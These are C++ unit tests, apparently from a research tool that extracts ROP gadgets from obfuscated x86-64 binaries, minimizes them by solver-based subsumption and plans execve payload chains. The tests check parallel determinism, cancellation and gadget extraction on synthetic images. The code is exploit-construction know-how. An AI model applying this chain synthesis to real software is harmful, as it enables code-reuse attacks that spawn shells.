      s = "v" + ctx.var_name(e) + "w" + std::to_string(n.width);
      break;
    default: {
      std::vector<std::string> ops;
      if (n.a != solver::kNoExpr) ops.push_back(canon(ctx, n.a, memo));
      if (n.b != solver::kNoExpr) ops.push_back(canon(ctx, n.b, memo));
      if (n.c != solver::kNoExpr) ops.push_back(canon(ctx, n.c, memo));
      switch (n.op) {
        case solver::Op::Add:
        case solver::Op::Mul:
        case solver::Op::And:
        case solver::Op::Or:
        case solver::Op::Xor:
        case solver::Op::Eq:
          std::sort(ops.begin(), ops.end());
          break;
        default:
          break;
      }
      s = "(" + std::to_string(static_cast<int>(n.op)) + "w" +
          std::to_string(n.width) + "x" + std::to_string(n.aux);
      for (const std::string& o : ops) s += " " + o;
      s += ")";
    }
  }
  memo.emplace(e, s);
  return s;
}

/// Full content signature of a record (context-independent).
std::string sig(const solver::Context& ctx, const Record& r, Memo& memo) {
  std::string s = std::to_string(r.addr) + "|" + std::to_string(r.len) + "|" +
                  std::to_string(r.n_insts) + "|" +
                  std::to_string(static_cast<int>(r.end)) + "|" +
                  std::to_string(r.has_cond_jump) +
                  std::to_string(r.has_direct_jump) +
                  std::to_string(r.aliased_memory) + "|" +
                  std::to_string(r.clobbered) + "," +
                  std::to_string(r.controlled) + "," +
                  std::to_string(r.settable) + "|" +
                  (r.stack_delta ? std::to_string(*r.stack_delta) : "-");
  s += "|regs";
  for (const solver::ExprRef e : r.final_regs) s += ";" + canon(ctx, e, memo);
  s += "|pre";
  for (const solver::ExprRef e : r.precond) s += ";" + canon(ctx, e, memo);
  s += "|rip;" + canon(ctx, r.next_rip, memo);
  s += "|wr";
  for (const auto& w : r.writes)
    s += ";" + canon(ctx, w.addr, memo) + ":" + canon(ctx, w.value, memo) +
         ":" + std::to_string(w.width);
  s += "|ind";
  for (const auto& ir : r.ind_reads)
    s += ";" + canon(ctx, ir.addr, memo) + ":" + canon(ctx, ir.var, memo);
  s += "|stk";
  for (const i64 off : r.stack_reads) s += ";" + std::to_string(off);
  s += "|path" + std::to_string(r.path.size());
  return s;
}

std::vector<std::string> sigs(const solver::Context& ctx,
                              const std::vector<Record>& pool) {
  Memo memo;
  std::vector<std::string> out;
  out.reserve(pool.size());
  for (const Record& r : pool) out.push_back(sig(ctx, r, memo));
  return out;
}

void expect_stats_equal(const ExtractStats& a, const ExtractStats& b) {
  EXPECT_EQ(a.offsets_scanned, b.offsets_scanned);
  EXPECT_EQ(a.decode_failures, b.decode_failures);
  EXPECT_EQ(a.gadgets, b.gadgets);
  EXPECT_EQ(a.with_cond_jump, b.with_cond_jump);
  EXPECT_EQ(a.with_direct_jump, b.with_direct_jump);
}

TEST(Parallel, ExtractionMatchesSequential) {
  const image::Image& img = obfuscated_image();

  solver::Context c1;
  Extractor e1(c1, img);
  ExtractOptions o1;
  o1.threads = 1;
  auto p1 = e1.extract(o1);
  ASSERT_GT(p1.size(), 100u);

  for (const int threads : {2, 4}) {
    solver::Context cn;
    Extractor en(cn, img);
    ExtractOptions on;
    on.threads = threads;
    auto pn = en.extract(on);

    expect_stats_equal(e1.stats(), en.stats());
    ASSERT_EQ(p1.size(), pn.size()) << "threads=" << threads;
    // The chunk-ordered merge reproduces the sequential scan order exactly,
    // so the pools match record-for-record, not just as sets.
    EXPECT_EQ(sigs(c1, p1), sigs(cn, pn)) << "threads=" << threads;
  }
}

TEST(Parallel, MinimizeMatchesSequential) {
  const image::Image& img = obfuscated_image();
  solver::Context ctx;
  Extractor ex(ctx, img);
  ExtractOptions opts;
  opts.threads = 1;
  auto pool = ex.extract(opts);
  ASSERT_GT(pool.size(), 100u);

  subsume::Stats s1;
  auto k1 = subsume::minimize(ctx, pool, &s1, /*max_solver_checks=*/100'000'000,
                              /*threads=*/1);
  ASSERT_FALSE(s1.budget_exhausted);  // precondition for exact equality

  for (const int threads : {2, 4}) {
    subsume::Stats sn;
    auto kn = subsume::minimize(ctx, pool, &sn, /*max_solver_checks=*/100'000'000,
                                threads);
    EXPECT_EQ(s1.input, sn.input);
    EXPECT_EQ(s1.kept, sn.kept);
    EXPECT_EQ(s1.removed, sn.removed);
    EXPECT_EQ(s1.solver_checks, sn.solver_checks);
    EXPECT_EQ(s1.structural_hits, sn.structural_hits);
    EXPECT_FALSE(sn.budget_exhausted);
    ASSERT_EQ(k1.size(), kn.size()) << "threads=" << threads;
    EXPECT_EQ(sigs(ctx, k1), sigs(ctx, kn)) << "threads=" << threads;
  }
}

TEST(Parallel, CancellationPropagatesToWorkers) {
  const image::Image& img = obfuscated_image();
  Governor gov;
  gov.cancel();  // cancelled before any worker starts

  solver::Context ctx;
  Extractor ex(ctx, img);
  ExtractOptions opts;
  opts.threads = 4;
  opts.governor = &gov;
  auto pool = ex.extract(opts);

  EXPECT_TRUE(pool.empty());
  const ExtractStats& st = ex.stats();
  EXPECT_EQ(st.offsets_scanned, 0u);
  EXPECT_EQ(st.offsets_skipped, img.code().size());
  EXPECT_EQ(st.status.code(), StatusCode::Cancelled);
}

TEST(Parallel, MidRunCancellationStopsPromptly) {
  const image::Image& img = obfuscated_image();
  Governor gov;

  std::thread canceller([&] {
    std::this_thread::sleep_for(std::chrono::milliseconds(10));
    gov.cancel();
  });

  solver::Context ctx;
  Extractor ex(ctx, img);
  ExtractOptions opts;
  opts.threads = 4;
  opts.governor = &gov;
  auto pool = ex.extract(opts);
  canceller.join();

  // Whether the cancel landed mid-scan or after completion, every offset is
  // accounted for exactly once and the partial pool is self-consistent.
  const ExtractStats& st = ex.stats();
  EXPECT_EQ(st.offsets_scanned + st.offsets_skipped, img.code().size());
  EXPECT_EQ(st.gadgets, pool.size());
  if (st.offsets_skipped > 0)
    EXPECT_EQ(st.status.code(), StatusCode::Cancelled);
}

TEST(Parallel, MinimizeObservesCancellation) {
  const image::Image& img = obfuscated_image();
  solver::Context ctx;
  Extractor ex(ctx, img);
  ExtractOptions opts;
  opts.threads = 2;
  auto pool = ex.extract(opts);
  ASSERT_GT(pool.size(), 100u);

  Governor gov;
  gov.cancel();
  subsume::Stats st;
  auto kept = subsume::minimize(ctx, pool, &st, /*max_solver_checks=*/100'000,
                                /*threads=*/4, &gov);
  // Cancellation degrades to structural-only subsumption: no solver work,
  // but the result is still a valid (if less minimized) pool.
  EXPECT_EQ(st.solver_checks, 0u);
  EXPECT_EQ(st.status.code(), StatusCode::Cancelled);
  EXPECT_LE(kept.size(), pool.size());
  EXPECT_GT(kept.size(), 0u);
}

// The multi-tenant contract: N concurrent Sessions over distinct images on
// one Engine produce byte-identical chains to N sequential GadgetPlanner
// (facade) runs. Counted caps only — a wall-clock budget would make the
// cut timing-dependent and the comparison meaningless.
TEST(Parallel, ConcurrentSessionsMatchSequentialFacade) {
  const char* names[] = {"bubble_sort", "gcd_lcm", "bit_tricks"};
  std::vector<image::Image> imgs;
  for (const char* name : names) {
    auto prog = minic::compile_source(corpus::by_name(name).source);
    obf::obfuscate(prog, obf::Options::llvm_obf(7));
    imgs.push_back(codegen::compile(prog));
  }
  core::PipelineOptions popts;
  popts.plan.max_chains = 2;
  const auto goal = payload::Goal::execve();

  // Sequential reference: the facade, one image at a time.
  std::vector<std::vector<std::vector<u8>>> ref;
  for (const auto& img : imgs) {
    core::GadgetPlanner gp(img, popts);
    ref.push_back(payload::encode_chains(gp.find_chains(goal)));
  }

  // All sessions at once against the shared engine.
  std::vector<std::vector<std::vector<u8>>> got(imgs.size());
  std::vector<std::thread> drivers;
  for (size_t i = 0; i < imgs.size(); ++i)
    drivers.emplace_back([&, i] {
      core::Session session(core::Engine::shared(), imgs[i], popts);
      got[i] = payload::encode_chains(session.find_chains(goal));
    });
  for (auto& t : drivers) t.join();

  for (size_t i = 0; i < imgs.size(); ++i) {
    EXPECT_FALSE(ref[i].empty()) << names[i];
    EXPECT_EQ(ref[i], got[i]) << names[i];
  }
}

// Campaign result digests must not depend on the concurrency level.
TEST(Parallel, CampaignConcurrencyInvariantDigests) {
  std::vector<core::Job> jobs;
  for (const char* name : {"bubble_sort", "state_machine"}) {
    core::Job job;
    job.program = name;
    job.obf = obf::Options::llvm_obf(7);
    job.goals = {payload::Goal::execve()};
    jobs.push_back(std::move(job));
  }

  auto digests = [&](int concurrency) {
    core::Campaign::Options copts;
    copts.concurrency = concurrency;
    copts.pipeline.plan.max_chains = 2;
    const auto summary =
        core::Campaign(core::Engine::shared(), copts).run(jobs);
    EXPECT_EQ(summary.jobs_failed, 0);
    std::vector<u64> out;
    for (const auto& r : summary.results) out.push_back(r.result_digest);
    return out;
  };

  const auto sequential = digests(1);
  const auto concurrent = digests(static_cast<int>(jobs.size()));
  EXPECT_EQ(sequential, concurrent);
}

TEST(Parallel, EnvKnobDrivesPipeline) {
  const image::Image& img = obfuscated_image();

  solver::Context c1;
  Extractor e1(c1, img);
  ExtractOptions o1;
  o1.threads = 1;
  auto p1 = e1.extract(o1);

  // threads = 0 defers to GP_THREADS.
  setenv("GP_THREADS", "3", 1);
  solver::Context ce;
  Extractor ee(ce, img);
  auto pe = ee.extract({});
  unsetenv("GP_THREADS");

  expect_stats_equal(e1.stats(), ee.stats());
  ASSERT_EQ(p1.size(), pe.size());
  EXPECT_EQ(sigs(c1, p1), sigs(ce, pe));
}

TEST(Parallel, MetricsAndTraceTotalsAreExactUnderContention) {
  // The observability layer's whole claim is "sum over threads ==
  // sequential": counters are thread-sharded and spans go to per-thread
  // rings, so hammering them from many threads must lose nothing. This is
  // also the tsan drill for the ring's two-flag drain handshake —
  // snapshot() runs concurrently with the writers below.
  const bool metrics_was = metrics::enabled();
  const bool trace_was = trace::enabled();
  metrics::set_enabled(true);
  trace::set_enabled(true);

  metrics::Counter& counter =
      metrics::registry().counter("test.parallel.hammer");
  metrics::Histogram& hist =
      metrics::registry().histogram("test.parallel.hist");
  counter.reset();
  hist.reset();
  const u64 spans_before = trace::recorded();

  constexpr int kThreads = 8;
  constexpr u64 kPerThread = 5000;
  auto hammer = [](int t) {
    for (u64 i = 0; i < kPerThread; ++i) {
      metrics::registry().counter("test.parallel.hammer").add();
      metrics::registry().histogram("test.parallel.hist").observe(i & 0xff);
      if (i % 64 == 0) {
        trace::Span span("hammer", "test", static_cast<u64>(t));
      }
    }
  };

  // Phase 1 — exactness: writers only, no concurrent drain. Every add,
  // observe and span must land.
  std::vector<std::thread> threads;
  threads.reserve(kThreads);
  for (int t = 0; t < kThreads; ++t) threads.emplace_back(hammer, t);
  for (auto& th : threads) th.join();

  EXPECT_EQ(counter.value(), static_cast<u64>(kThreads) * kPerThread);
  EXPECT_EQ(hist.count(), static_cast<u64>(kThreads) * kPerThread);
  const u64 spans_per_thread = (kPerThread + 63) / 64;  // ceil(5000/64)
  EXPECT_EQ(trace::recorded() - spans_before,
            static_cast<u64>(kThreads) * spans_per_thread);

  // Phase 2 — the tsan drill for the ring drain handshake: snapshot()
  // races the writers. A drain pauses recording, so spans started in that
  // window are deliberately dropped (never torn); metrics don't pause, so
  // counter totals stay exact even here.
  counter.reset();
  threads.clear();
  for (int t = 0; t < kThreads; ++t) threads.emplace_back(hammer, t);
  for (int i = 0; i < 16; ++i) (void)trace::snapshot();
  for (auto& th : threads) th.join();
  EXPECT_EQ(counter.value(), static_cast<u64>(kThreads) * kPerThread);

  counter.reset();
  hist.reset();
  metrics::set_enabled(metrics_was);
  trace::set_enabled(trace_was);
}

}  // namespace
}  // namespace gp::gadget
