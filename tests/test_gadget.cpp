#include <gtest/gtest.h>

#include "gadget/gadget.hpp"
#include "subsume/subsume.hpp"
#include "x86/encoder.hpp"

namespace gp::gadget {
namespace {

using solver::Context;
using x86::Assembler;
using x86::Cond;
using x86::MemRef;
using x86::Mnemonic;
using x86::Reg;

image::Image make_image(Assembler& a) {
  return image::Image(a.finish(), {}, image::kCodeBase);
}

std::vector<Record> extract(const image::Image& img, Context& ctx,
                            ExtractOptions opts = {}) {
  Extractor ex(ctx, img);
  return ex.extract(opts);
}

/// Find a gadget whose recorded start address equals `addr`.
const Record* at(const std::vector<Record>& pool, u64 addr,
                 EndKind end = EndKind::Ret) {
  for (const Record& r : pool)
    if (r.addr == addr && r.end == end) return &r;
  return nullptr;
}

TEST(Extractor, FindsPopRet) {
  Assembler a;
  a.nop();            // +0
  a.pop(Reg::RDI);    // +1
  a.ret();            // +2
  auto img = make_image(a);
  Context ctx;
  auto pool = extract(img, ctx);

  const Record* g = at(pool, image::kCodeBase + 1);
  ASSERT_NE(g, nullptr);
  EXPECT_EQ(g->end, EndKind::Ret);
  EXPECT_EQ(g->n_insts, 2);
  EXPECT_TRUE(g->controls(Reg::RDI));
  EXPECT_TRUE(g->clobbers(Reg::RDI));
  EXPECT_TRUE(g->clobbers(Reg::RSP));
  EXPECT_FALSE(g->controls(Reg::RAX));
  ASSERT_TRUE(g->stack_delta.has_value());
  EXPECT_EQ(*g->stack_delta, 16);  // pop + ret
  // rdi := stk_0.
  EXPECT_EQ(ctx.to_string(g->final_regs[static_cast<int>(Reg::RDI)]),
            "stk_0");
}

TEST(Extractor, UnalignedGadgetsDiscovered) {
  // movabs whose immediate contains 5f c3 (pop rdi; ret).
  Assembler a;
  a.emit({.mnemonic = Mnemonic::MOVABS, .dst = x86::Operand::r(Reg::RAX),
          .src = x86::Operand::i(static_cast<i64>(0x0000C35F00000000ULL)),
          .size = 64});
  a.ret();
  auto img = make_image(a);
  Context ctx;
  auto pool = extract(img, ctx);
  bool found = false;
  for (const Record& r : pool)
    found |= r.controls(Reg::RDI) && r.end == EndKind::Ret;
  EXPECT_TRUE(found);
}

TEST(Extractor, SyscallGadget) {
  Assembler a;
  a.pop(Reg::RAX);
  a.syscall();
  auto img = make_image(a);
  Context ctx;
  auto pool = extract(img, ctx);
  const Record* g = at(pool, image::kCodeBase, EndKind::Syscall);
  ASSERT_NE(g, nullptr);
  EXPECT_TRUE(g->controls(Reg::RAX));
  Library lib(pool);
  EXPECT_FALSE(lib.syscalls().empty());
}

TEST(Extractor, IndirectJumpGadget) {
  Assembler a;
  a.pop(Reg::RSI);
  a.jmp_reg(Reg::RAX);
  auto img = make_image(a);
  Context ctx;
  auto pool = extract(img, ctx);
  const Record* g = at(pool, image::kCodeBase, EndKind::IndJmp);
  ASSERT_NE(g, nullptr);
  EXPECT_TRUE(g->controls(Reg::RSI));
  // Transfer target is the (unclobbered) initial rax.
  EXPECT_EQ(ctx.to_string(g->next_rip), "rax0");
}

TEST(Extractor, DirectJumpMerging) {
  // pop rdx; jmp L; ...junk...; L: pop rsi; ret  — one merged gadget.
  Assembler a;
  auto l = a.new_label();
  a.pop(Reg::RDX);
  a.jmp(l);
  a.int3();
  a.int3();
  a.bind(l);
  a.pop(Reg::RSI);
  a.ret();
  auto img = make_image(a);
  Context ctx;
  auto pool = extract(img, ctx);
  const Record* g = at(pool, image::kCodeBase);
  ASSERT_NE(g, nullptr);
  EXPECT_TRUE(g->has_direct_jump);
  EXPECT_TRUE(g->controls(Reg::RDX));
  EXPECT_TRUE(g->controls(Reg::RSI));
  ASSERT_TRUE(g->stack_delta.has_value());
  EXPECT_EQ(*g->stack_delta, 24);
}

TEST(Extractor, ConditionalJumpBecomesPrecondition) {
  // Fig. 4(b): the not-taken path requires the condition to be false.
  // cmp rdx, rbx; jne trap; pop rax; ret
  Assembler a;
  auto trap = a.new_label();
  a.alu(Mnemonic::CMP, Reg::RDX, Reg::RBX);
  a.jcc(Cond::NE, trap);
  a.pop(Reg::RAX);
  a.ret();
  a.bind(trap);
  a.int3();
  auto img = make_image(a);
  Context ctx;
  auto pool = extract(img, ctx);

  const Record* g = at(pool, image::kCodeBase);
  ASSERT_NE(g, nullptr);
  EXPECT_TRUE(g->has_cond_jump);
  EXPECT_TRUE(g->controls(Reg::RAX));
  ASSERT_FALSE(g->precond.empty());
  // The precondition must hold exactly when rdx0 == rbx0.
  solver::Solver s(ctx);
  solver::ExprRef pre = ctx.t();
  for (auto c : g->precond) pre = ctx.band(pre, c);
  const auto eq =
      ctx.eq(ctx.var("rdx0", 64), ctx.var("rbx0", 64));
  EXPECT_TRUE(s.prove_implies(pre, eq));
  EXPECT_TRUE(s.prove_implies(eq, pre));
}

TEST(Extractor, TakenBranchVariantAlsoEmitted) {
  // Fig. 4(c): the taken path is a separate gadget variant whose
  // precondition requires the jump condition to be TRUE.
  // test rcx, rcx; je L; int3; L: pop rbx; ret
  Assembler a;
  auto l = a.new_label();
  a.alu(Mnemonic::TEST, Reg::RCX, Reg::RCX);
  a.jcc(Cond::E, l);
  a.int3();
  a.bind(l);
  a.pop(Reg::RBX);
  a.ret();
  auto img = make_image(a);
  Context ctx;
  auto pool = extract(img, ctx);

  bool found_taken = false;
  for (const Record& r : pool) {
    if (r.addr != image::kCodeBase || !r.has_cond_jump) continue;
    if (!r.controls(Reg::RBX)) continue;
    // Precondition should force rcx0 == 0.
    solver::Solver s(ctx);
    solver::ExprRef pre = ctx.t();
    for (auto c : r.precond) pre = ctx.band(pre, c);
    if (s.prove_implies(pre, ctx.eq(ctx.var("rcx0", 64),
                                    ctx.constant(0, 64))))
      found_taken = true;
  }
  EXPECT_TRUE(found_taken);
}

TEST(Extractor, RejectsInvalidOptions) {
  // Regression: stride = 0 used to loop on the first offset forever.
  Assembler a;
  a.ret();
  auto img = make_image(a);
  Context ctx;
  Extractor ex(ctx, img);
  ExtractOptions opts;
  opts.stride = 0;
  EXPECT_THROW(ex.extract(opts), Error);
  opts.stride = -4;
  EXPECT_THROW(ex.extract(opts), Error);
  opts = {};
  opts.max_insts = -1;
  EXPECT_THROW(ex.extract(opts), Error);
  opts = {};
  opts.max_paths = -1;
  EXPECT_THROW(ex.extract(opts), Error);
  opts = {};
  opts.max_cond_jumps = -1;
  EXPECT_THROW(ex.extract(opts), Error);
}

TEST(Extractor, MidPathDecodeFailureCounted) {
  // nop; <undecodable 0x06>. Offset 0 decodes the nop and then walks into
  // the bad byte (mid-path failure); offset 1 fails at the first
  // instruction. Both must show up in decode_failures so the stat
  // reconciles with offsets_scanned.
  image::Image img({0x90, 0x06}, {}, image::kCodeBase);
  Context ctx;
  Extractor ex(ctx, img);
  auto pool = ex.extract({});
  EXPECT_TRUE(pool.empty());
  EXPECT_EQ(ex.stats().offsets_scanned, 2u);
  EXPECT_EQ(ex.stats().decode_failures, 2u);
}

TEST(Extractor, StatsPopulated) {
  Assembler a;
  for (int i = 0; i < 4; ++i) {
    a.pop(static_cast<Reg>(i));
    a.ret();
  }
  auto img = make_image(a);
  Context ctx;
  Extractor ex(ctx, img);
  auto pool = ex.extract({});
  EXPECT_EQ(ex.stats().offsets_scanned, img.code().size());
  EXPECT_GT(ex.stats().gadgets, 0u);
  EXPECT_EQ(ex.stats().gadgets, pool.size());
}

TEST(Library, IndexedByControlledRegister) {
  Assembler a;
  a.pop(Reg::RDI);
  a.ret();
  a.pop(Reg::RSI);
  a.ret();
  a.syscall();
  auto img = make_image(a);
  Context ctx;
  Library lib(extract(img, ctx));
  EXPECT_FALSE(lib.controlling(Reg::RDI).empty());
  EXPECT_FALSE(lib.controlling(Reg::RSI).empty());
  EXPECT_TRUE(lib.controlling(Reg::R15).empty());
  for (const u32 i : lib.controlling(Reg::RDI))
    EXPECT_TRUE(lib[i].controls(Reg::RDI));
}

// ---------------------------------------------------------------------------
// Subsumption
// ---------------------------------------------------------------------------

TEST(Subsumption, EquivalentGadgetsCollapse) {
  // Two byte-identical pop rax; ret gadgets at different addresses.
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.nop();
  a.pop(Reg::RAX);
  a.ret();
  auto img = make_image(a);
  Context ctx;
  auto pool = extract(img, ctx);

  size_t pop_rax_before = 0;
  for (const Record& r : pool)
    if (r.controls(Reg::RAX) && r.end == EndKind::Ret && r.n_insts == 2)
      ++pop_rax_before;
  EXPECT_GE(pop_rax_before, 2u);

  subsume::Stats st;
  auto kept = subsume::minimize(ctx, pool, &st);
  size_t pop_rax_after = 0;
  for (const Record& r : kept)
    if (r.controls(Reg::RAX) && r.end == EndKind::Ret && r.n_insts == 2)
      ++pop_rax_after;
  EXPECT_EQ(pop_rax_after, 1u);
  EXPECT_EQ(st.input, pool.size());
  EXPECT_EQ(st.kept, kept.size());
  EXPECT_GT(st.removed, 0u);
}

TEST(Subsumption, LooserPreconditionSubsumes) {
  // g1: pop rax; ret               (no precondition)
  // g2: cmp rdx,rbx; jne trap; pop rax; ret  (requires rdx0 == rbx0)
  // g1 subsumes g2 but g2 must NOT subsume g1.
  Context ctx;
  Assembler a1;
  a1.pop(Reg::RAX);
  a1.ret();
  auto img1 = make_image(a1);
  auto p1 = extract(img1, ctx);
  const Record* g1 = at(p1, image::kCodeBase);
  ASSERT_NE(g1, nullptr);

  Assembler a2;
  auto trap = a2.new_label();
  a2.alu(Mnemonic::CMP, Reg::RDX, Reg::RBX);
  a2.jcc(Cond::NE, trap);
  a2.pop(Reg::RAX);
  a2.ret();
  a2.bind(trap);
  a2.int3();
  auto img2 = make_image(a2);
  auto p2 = extract(img2, ctx);
  const Record* g2 = nullptr;
  for (const Record& r : p2)
    if (r.addr == image::kCodeBase && r.has_cond_jump &&
        r.controls(Reg::RAX))
      g2 = &r;
  ASSERT_NE(g2, nullptr);

  solver::Solver s(ctx);
  // Post-states differ in the flags... registers and transfers match:
  EXPECT_TRUE(subsume::subsumes(ctx, s, *g1, *g2));
  EXPECT_FALSE(subsume::subsumes(ctx, s, *g2, *g1));
}

TEST(Subsumption, DifferentFunctionalityKept) {
  Assembler a;
  a.pop(Reg::RAX);
  a.ret();
  a.pop(Reg::RBX);
  a.ret();
  auto img = make_image(a);
  Context ctx;
  auto pool = extract(img, ctx);
  auto kept = subsume::minimize(ctx, pool);
  bool rax = false, rbx = false;
  for (const Record& r : kept) {
    rax |= r.controls(Reg::RAX);
    rbx |= r.controls(Reg::RBX);
  }
  EXPECT_TRUE(rax);
  EXPECT_TRUE(rbx);
}

TEST(Subsumption, BudgetExhaustionShortCircuitsToStructural) {
  // One bucket with three gadgets: an unconditional pop rax; ret plus two
  // conditional variants with distinct preconditions. Each non-identical
  // pair costs one unit of the solver-check budget, so a budget of 1 runs
  // out after the first candidate and the rest of the bucket must be
  // winnowed structurally (kept, sound) with budget_exhausted recorded.
  Context ctx;
  Assembler a1;
  a1.pop(Reg::RAX);
  a1.ret();
  auto img1 = make_image(a1);
  auto p1 = extract(img1, ctx);
  const Record* g1 = at(p1, image::kCodeBase);
  ASSERT_NE(g1, nullptr);

  auto make_cond = [&](Reg lhs, Reg rhs) {
    Assembler a;
    auto trap = a.new_label();
    a.alu(Mnemonic::CMP, lhs, rhs);
    a.jcc(Cond::NE, trap);
    a.pop(Reg::RAX);
    a.ret();
    a.bind(trap);
    a.int3();
    auto img = make_image(a);
    auto p = extract(img, ctx);
    for (const Record& r : p)
      if (r.addr == image::kCodeBase && r.has_cond_jump &&
          r.controls(Reg::RAX))
        return r;
    ADD_FAILURE() << "conditional gadget not extracted";
    return Record{};
  };
  std::vector<Record> pool = {*g1, make_cond(Reg::RDX, Reg::RBX),
                              make_cond(Reg::RCX, Reg::RSI)};

  // Ample budget: both conditional gadgets are subsumed by g1.
  subsume::Stats full;
  auto kept = subsume::minimize(ctx, pool, &full);
  EXPECT_EQ(kept.size(), 1u);
  EXPECT_FALSE(full.budget_exhausted);
  EXPECT_EQ(full.solver_checks, 2u);

  // Budget of 1: the first conditional gadget consumes it; the second is
  // kept without polling the budget again.
  subsume::Stats st;
  kept = subsume::minimize(ctx, pool, &st, /*max_solver_checks=*/1);
  EXPECT_EQ(kept.size(), 2u);
  EXPECT_TRUE(st.budget_exhausted);
  EXPECT_EQ(st.solver_checks, 1u);

  // Budget of 0: structural-only from the start; never "exhausted".
  subsume::Stats zero;
  kept = subsume::minimize(ctx, pool, &zero, /*max_solver_checks=*/0);
  EXPECT_EQ(kept.size(), 3u);
  EXPECT_FALSE(zero.budget_exhausted);
  EXPECT_EQ(zero.solver_checks, 0u);
}

TEST(Subsumption, PreservesCapability) {
  // Pool-wide property: after minimize, every controlled register that was
  // controllable before is still controllable.
  Assembler a;
  for (int r = 0; r < 8; ++r) {
    a.pop(static_cast<Reg>(r));
    a.ret();
    a.pop(static_cast<Reg>(r));
    a.nop();
    a.ret();
  }
  auto img = make_image(a);
  Context ctx;
  auto pool = extract(img, ctx);
  RegMask before = 0, after = 0;
  for (const Record& r : pool) before |= r.controlled;
  auto kept = subsume::minimize(ctx, pool);
  for (const Record& r : kept) after |= r.controlled;
  EXPECT_EQ(before, after);
  EXPECT_LT(kept.size(), pool.size());
}

}  // namespace
}  // namespace gp::gadget
