// The optimizer contract (codegen -O0/-O1/-O2):
//  - every level is deterministic: same input, byte-identical image;
//  - every level is behaviorally identical to -O0 under the emulator, for
//    the whole corpus × obfuscation-profile matrix (differential sweep);
//  - -O2 output is measurably smaller than -O0 (the small-baseline fix);
//  - the level and profile grammars reject unknown values with messages
//    that list the valid spellings;
//  - switch dispatch bounds-checks its selector at every level — an
//    out-of-range selector traps on int3 instead of jumping through
//    whatever bytes follow the table.
#include <gtest/gtest.h>

#include <cstdlib>
#include <tuple>

#include "cfg/opt.hpp"
#include "codegen/codegen.hpp"
#include "core/campaign.hpp"
#include "corpus/corpus.hpp"
#include "emu/emu.hpp"
#include "minic/minic.hpp"
#include "obfuscate/obfuscate.hpp"
#include "support/config.hpp"

namespace gp::codegen {
namespace {

const std::vector<std::string>& all_profiles() {
  static const std::vector<std::string> kProfiles = {
      "none",        "substitution", "bogus-cf", "flatten",
      "encode-data", "virtualize",   "llvm-obf", "tigress"};
  return kProfiles;
}

struct RunOutcome {
  emu::StopReason reason = emu::StopReason::Running;
  u64 exit_status = 0;
  std::string output;
};

RunOutcome run_image(const image::Image& img, u64 max_steps = 300'000'000) {
  emu::Emulator e(img);
  const auto r = e.run(max_steps);
  return {r.reason, r.exit_status, e.output_str()};
}

Options at_level(int level) {
  Options opts;
  opts.opt = opt_level_from_int(level);
  return opts;
}

// ---------------------------------------------------------------- grammar

TEST(OptLevel, ParseRoundtrip) {
  EXPECT_EQ(opt_level_from_int(0), OptLevel::O0);
  EXPECT_EQ(opt_level_from_int(1), OptLevel::O1);
  EXPECT_EQ(opt_level_from_int(2), OptLevel::O2);
  EXPECT_STREQ(opt_level_name(OptLevel::O0), "O0");
  EXPECT_STREQ(opt_level_name(OptLevel::O1), "O1");
  EXPECT_STREQ(opt_level_name(OptLevel::O2), "O2");
}

TEST(OptLevel, OutOfRangeRejectsWithGrammar) {
  for (const int bad : {-1, 3, 99}) {
    try {
      opt_level_from_int(bad);
      FAIL() << "level " << bad << " must reject";
    } catch (const Error& e) {
      EXPECT_NE(std::string(e.what()).find("valid levels: 0, 1, 2"),
                std::string::npos)
          << e.what();
    }
  }
}

TEST(OptLevel, ConfigRejectsBadEnvValue) {
  for (const char* bad : {"3", "-1", "x", "1x", ""}) {
    ASSERT_EQ(setenv("GP_OPT_LEVEL", bad, 1), 0);
    try {
      (void)Config::from_env();
      FAIL() << "GP_OPT_LEVEL='" << bad << "' must reject";
    } catch (const Error& e) {
      EXPECT_NE(std::string(e.what()).find("valid levels: 0, 1, 2"),
                std::string::npos)
          << e.what();
    }
  }
  ASSERT_EQ(setenv("GP_OPT_LEVEL", "2", 1), 0);
  EXPECT_EQ(Config::from_env().opt_level, 2);
  ASSERT_EQ(unsetenv("GP_OPT_LEVEL"), 0);
  EXPECT_EQ(Config::from_env().opt_level, 0);
}

TEST(ProfileGrammar, UnknownProfileListsValidNames) {
  try {
    core::profile_by_name("o-llvm");
    FAIL() << "unknown profile must reject";
  } catch (const Error& e) {
    const std::string msg = e.what();
    EXPECT_NE(msg.find("valid profiles:"), std::string::npos) << msg;
    EXPECT_NE(msg.find("tigress"), std::string::npos) << msg;
  }
  for (const auto& name : all_profiles())
    EXPECT_NO_THROW(core::profile_by_name(name)) << name;
}

TEST(ProfileGrammar, CorpusJobsRejectBadOptLevel) {
  EXPECT_THROW(core::Campaign::corpus_jobs({"none"}, 7, {0, 3}), Error);
  const auto jobs = core::Campaign::corpus_jobs({"none"}, 7, {0, 2});
  ASSERT_EQ(jobs.size(), corpus::benchmark().size() * 2);
  EXPECT_EQ(jobs[0].opt_level, 0);
  EXPECT_EQ(jobs[1].opt_level, 2);
}

// ---------------------------------------------------- determinism & size

TEST(OptLevel, DigestDeterminismPerLevel) {
  const auto& p = corpus::by_name("hash_table");
  for (int level = 0; level <= 2; ++level) {
    auto compile_once = [&] {
      auto prog = minic::compile_source(p.source);
      obf::obfuscate(prog, obf::Options::llvm_obf(7));
      return compile(prog, at_level(level));
    };
    const auto a = compile_once();
    const auto b = compile_once();
    EXPECT_TRUE(std::equal(a.code().begin(), a.code().end(),
                           b.code().begin(), b.code().end()))
        << "O" << level << " code bytes must be deterministic";
    EXPECT_TRUE(std::equal(a.data().begin(), a.data().end(),
                           b.data().begin(), b.data().end()))
        << "O" << level << " data bytes must be deterministic";
  }
}

TEST(OptLevel, LevelsChangeBytesAndO2ShrinksCode) {
  // Aggregated over the full corpus at the llvm-obf profile: every level
  // produces distinct images, and O2 is measurably smaller than O0 —
  // the point of the exercise (the small-baseline measurement fix).
  size_t total_o0 = 0, total_o1 = 0, total_o2 = 0;
  for (const auto& p : corpus::benchmark()) {
    auto compile_at = [&](int level) {
      auto prog = minic::compile_source(p.source);
      obf::obfuscate(prog, obf::Options::llvm_obf(7));
      return compile(prog, at_level(level));
    };
    const auto o0 = compile_at(0);
    const auto o1 = compile_at(1);
    const auto o2 = compile_at(2);
    total_o0 += o0.code().size();
    total_o1 += o1.code().size();
    total_o2 += o2.code().size();
    EXPECT_FALSE(std::equal(o0.code().begin(), o0.code().end(),
                            o2.code().begin(), o2.code().end()))
        << p.name << ": O0 and O2 must differ";
  }
